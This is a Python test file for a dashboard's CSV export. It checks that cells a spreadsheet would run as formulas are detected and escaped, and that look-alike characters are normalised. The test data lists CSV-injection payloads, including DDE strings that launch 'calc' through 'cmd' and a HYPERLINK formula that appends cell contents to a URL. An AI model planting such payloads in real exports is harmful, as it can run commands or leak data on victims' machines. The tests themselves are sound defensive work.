"""Look-alike characters, and texts that a spreadsheet would run."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboard.cli.output import print_csv
from dashboard.plain_text import as_plain_cell, is_formula_like, plain_characters

FORMULAS = (
    "=1+1", "= 1+1", "=HYPERLINK(\"http://example.invalid/\"&A1,\"click\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "+A1",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)", "- 2+3+cmd|' /C calc'!A0", "- SUM(A1:A3)", "-A1*2", "-1-1", "+1/2",
    "\t=1+1", "\tplain words", "\r=1+1", "  =1+1", "\u00a0=1+1", "＝1+1", "+cmd|'/C calc'!A1", "-word", "@name",
    "=same as last month", "-5% =A1", "- see note |cmd", "+3 points(A1)", "-1 &A1",
)  # fmt: skip
NO_FORMULAS = (
    "", "-", "–", "—", "--", "=", "==", "+", "+/-", "@", "-0.60%", "−1%", "+0.2%", "+12", "-3", "+1,234.5", "-£1.2m",
    "-3 points", "+3.5 points on last year", "-12 (provisional)", "-.5%", "- 3", "-21.3*", "14/02/2019", "31-Mar-19",
    "% of contacts", "n/a", "1+1", "A - B", "<5", "(3)", "Target = 85", "mail@example.org", "\nWrapped heading",
)  # fmt: skip
PROSE = ("- note text", "- see the front sheet, note 2", "+/- change", "+/- 5%", "-ve trend", "+ve", "@ 31 March 2019",
         "- children in need (see note)", "+ those moved in")  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_is_told_and_escaped(text: str):
    assert is_formula_like(text)
    assert as_plain_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", NO_FORMULAS)
def test_figures_marks_and_words_are_no_formulas(text: str):
    assert not is_formula_like(text)
    assert as_plain_cell(text) == text


@pytest.mark.parametrize("text", PROSE)
def test_prose_behind_a_sign_needs_no_warning_but_is_escaped_all_the_same(text: str):
    """A spreadsheet that opens the CSV would show #NAME? for it."""
    assert not is_formula_like(text)
    assert as_plain_cell(text) == f"'{text}"


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n aA1%(|!.£"), max_size=12))
def test_no_exported_text_starts_a_formula(text: str):
    exported = as_plain_cell(text)
    assert exported in (text, f"'{text}")
    assert not is_formula_like(exported)


def test_the_command_lines_csv_writes_plain_text(capsys: pytest.CaptureFixture[str]):
    print_csv(("text", "value"), [(text, -1.5) for text in FORMULAS])
    lines = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert [line[0][0] for line in lines[1:]] == ["'"] * len(FORMULAS)
    assert {line[1] for line in lines[1:]} == {"-1.5"}


@pytest.mark.parametrize(("text", "plain"), [("–0.6", "-0.6"), ("children’s", "children's"), ("a\u00a0b", "a b")])
def test_look_alikes_are_written_one_way(text: str, plain: str):
    assert plain_characters(text) == plain
